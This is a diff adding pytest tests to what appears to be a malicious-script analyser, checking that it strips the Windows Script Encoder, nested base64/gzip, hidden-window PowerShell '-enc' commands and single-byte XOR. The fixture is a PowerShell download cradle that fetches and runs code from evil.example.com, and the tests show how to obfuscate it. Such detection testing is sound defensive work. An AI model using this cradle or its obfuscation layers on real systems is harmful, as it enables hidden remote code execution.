@@ -7,6 +7,7 @@ from pathlib import Path
 
 import pytest
 
+from workers._encoded_script import decoded_parts
 from workers.script import script
 
 CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/stage2')"
@@ -53,6 +54,62 @@ def test_every_way_of_hiding_is_undone(analyse, text):
     assert "downloads" in traits(findings)
     assert findings.score >= 40
     assert "evil.example.com" in findings.evidence[0].path.read_text()
+
+
+def test_the_windows_script_encoder(analyse):
+    """What Microsoft's encoder made of a text is that text again, in a file of its own or in a page."""
+    encoded = "#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@"
+    findings = analyse(script, encoded.encode())
+    assert [(each.method, each.text) for each in findings.result.layers] == [
+        ("script encoder", 'MsgBox "Hello"')
+    ]
+    page = f"<script language=JScript.Encode>{encode(CRADLE)}</script>"
+    findings = analyse(script, page.encode())
+    assert LINK in links(findings)
+    assert {"downloads", "hidden-commands"} <= traits(findings)
+
+
+def encode(text: str) -> str:
+    """The text as the encoder writes it, made by trying which character is decoded to each."""
+    made = []
+    alphabet = ["@!", "@*", "@#", "@&", "@$", *(chr(code) for code in (9, *range(32, 128)))]
+    for place, char in enumerate(text):
+        before = "#@~^AAAAAA==" + "A" * (place % 64)
+        made.append(next(each for each in alphabet if last(f"{before}{each}^#~@") == char))
+    return f"#@~^AAAAAA=={''.join(made)}^#~@"
+
+
+def last(encoded: str) -> str:
+    (part,) = decoded_parts(encoded)
+    return part[-1]
+
+
+@pytest.mark.parametrize("encoder", [lambda text: b64(gzip.compress(text.encode())), b64])
+def test_encoders_upon_each_other(analyse, encoder):
+    """An encoded command within an encoded command, compressed or not, joined from pieces, comes out."""
+    inner = f"powershell -w hidden -enc {b64(CRADLE.encode('utf-16-le'))}"
+    blob = encoder(inner)
+    joined = "' + '".join(blob[start : start + 40] for start in range(0, len(blob), 40))
+    findings = analyse(script, f"$x = [Convert]::FromBase64String('{joined}')".encode())
+    assert LINK in links(findings)
+    assert {"encoded-command", "hidden-window"} <= traits(findings)
+
+
+@pytest.mark.parametrize("key", [0x21, 0x5A, 0xFF])
+def test_exclusive_or_with_one_byte(analyse, key):
+    """A command that each byte was changed in by the same key comes out, whatever the key is."""
+    blob = bytes(byte ^ key for byte in CRADLE.encode())
+    findings = analyse(script, f"$b = FromBase64String('{b64(blob)}') | % {{ $_ -bxor {key} }}".encode())
+    assert LINK in links(findings)
+
+
+def test_a_program_changed_with_a_key_becomes_a_child(analyse, launchers):
+    """A real program that each byte was changed in is handed on as it was."""
+    program = launchers["t64.exe"]
+    blob = b64(bytes(byte ^ 0x37 for byte in program))
+    findings = analyse(script, f"$b = FromBase64String('{blob}') | % {{ $_ -bxor 0x37 }}".encode())
+    assert [child.path.read_bytes() for child in findings.children] == [program]
+    assert "hidden-program" in traits(findings)
 
 
 def test_what_was_hidden_weighs_more(analyse):
